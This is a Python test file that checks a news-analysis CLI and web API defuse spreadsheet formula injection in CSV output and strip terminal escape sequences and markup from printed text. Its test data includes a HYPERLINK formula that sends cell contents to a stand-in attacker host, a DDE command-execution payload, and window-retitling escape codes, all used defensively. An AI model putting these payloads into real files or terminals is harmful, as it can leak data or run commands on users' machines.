"""Article text is untrusted: CSV from any writer (CLI tables, `tidings export`, the web API)
cannot start a spreadsheet formula, and what the CLI prints as a table or text cannot drive the
terminal (escape sequences, control characters) or be read as rich markup (issue #18)."""

from __future__ import annotations

import csv
import io

import pytest
from click.testing import CliRunner

from tidings.cli import cli
from tidings.export import write_table
from tidings.output import csv_safe, render_article, terminal_safe, write_rows
from tidings.records import Actor, ArticleResult, Event, Mention, Participant, Quote, Span
from tidings.store import open_store
from tidings.web.app import _csv_cell

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[H\x1b[31m\x9b1m\x07\x08\r\u202e"
MARKUP = "[bold red]loud[/bold red] [/] [link=http://x]here[/link]"


@pytest.mark.parametrize("value", FORMULAS)
def test_a_string_that_starts_a_formula_gets_an_apostrophe(value):
    assert csv_safe(value) == "'" + value


@pytest.mark.parametrize("value", [-3, 2.5, 0, None, True, "Russia", "", "3-2", "a=b", "'quoted"])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert csv_safe(value) == value


def test_the_web_csv_uses_the_same_rule():
    for value in FORMULAS + [-3, "Russia", None]:
        assert _csv_cell(value) == csv_safe(value)


ROWS = [{"name": value, "count": -3, "share": -0.5, "tags": ["=x"]} for value in FORMULAS]


def _csv_cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_cli_csv_output_neutralises_formulas_and_keeps_negative_numbers():
    out = io.StringIO()
    write_rows(ROWS, "csv", out)
    rows = _csv_cells(out.getvalue())
    assert [r["name"] for r in rows] == ["'" + value for value in FORMULAS]
    assert {r["count"] for r in rows} == {"-3"} and {r["share"] for r in rows} == {"-0.5"}
    assert {r["tags"] for r in rows} == {'["=x"]'}


def test_export_csv_neutralises_formulas_and_keeps_negative_numbers():
    out = io.StringIO()
    assert write_table(iter(ROWS), "csv", out, None) == len(ROWS)
    rows = _csv_cells(out.getvalue())
    assert [r["name"] for r in rows] == ["'" + value for value in FORMULAS]
    assert {r["count"] for r in rows} == {"-3"}


def test_jsonl_export_keeps_the_text_as_it_is():
    out = io.StringIO()
    write_table(iter(ROWS[:1]), "jsonl", out, None)
    assert FORMULAS[0].replace('"', '\\"') in out.getvalue()


# -- the terminal --------------------------------------------------------------------------------------
def test_escape_sequences_and_control_characters_are_removed_but_newlines_and_tabs_kept():
    assert terminal_safe(f"Title{ESCAPES} text\n\tnext") == "Title text\n\tnext"
    assert terminal_safe("\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\") == "link"
    assert terminal_safe("Zürich — 中文 🙂") == "Zürich — 中文 🙂"


def test_a_table_prints_no_escape_sequence_and_no_markup():
    out = io.StringIO()
    write_rows([{"name": f"{MARKUP}{ESCAPES}", "count": -3}], "table", out)
    printed = out.getvalue()
    assert "\x1b" not in printed and "\x9b" not in printed and "\x07" not in printed and "\r" not in printed
    assert "[bold red]loud[/bold red]" in printed and "[/]" in printed


def _hostile_article() -> ArticleResult:
    text = f"Russia{ESCAPES} accused [bold]Canada[/bold] of spying. {MARKUP}"
    russia = Participant("Russia", 0, 6, "RUS", None, f"Russia{ESCAPES}")
    return ArticleResult(
        id="hostile", text=text, title=f"\x1b]0;retitled\x07Moscow{ESCAPES} [bold]protests[/]",
        url="http://example.org/\x1b[2J", published="2022-01-18", language="en", status="ok",
        origin="hostile.txt", content_hash="h-hostile", credited_publisher=f"Wire{ESCAPES}",
        mentions=[Mention("Russia", 0, 6, Actor(f"Russia{ESCAPES}", "RUS", None, how="kb"), entity=1, label="GPE")],
        events=[Event(type="ACCUSE", trigger=Span("accused", 30, 37), sentence=Span(text, 0, len(text)),
                      rule="test", source=[russia], target=[], confidence=0.9)],
        quotes=[Quote(text[:20], 0, 20, True, russia, None)])


def _assert_terminal_safe(printed: str) -> None:
    for char in ("\x1b", "\x9b", "\x07", "\x08", "\r", "\u202e"):
        assert char not in printed, repr(char)


def test_render_article_prints_no_escape_sequence():
    out = io.StringIO()
    render_article(_hostile_article(), out)
    _assert_terminal_safe(out.getvalue())
    assert "Moscow" in out.getvalue() and "[bold]Canada[/bold]" in out.getvalue()


def test_show_and_actor_tables_print_no_escape_sequence_and_no_markup(tmp_path):
    db = str(tmp_path / "hostile.duckdb")
    with open_store(db) as store:
        store.save([_hostile_article()])
    runner = CliRunner()
    shown = runner.invoke(cli, ["show", "hostile", "--db", db])
    assert shown.exit_code == 0, shown.output
    _assert_terminal_safe(shown.output)
    assert "[bold]Canada[/bold]" in shown.output
    for command in (["actors"], ["events"], ["quotes"]):
        listed = runner.invoke(cli, [*command, "--db", db, "--format", "table"])
        assert listed.exit_code == 0, (command, listed.output)
        _assert_terminal_safe(listed.output)
    actors = runner.invoke(cli, ["actors", "--db", db, "--format", "table"])
    assert "Russia" in actors.output
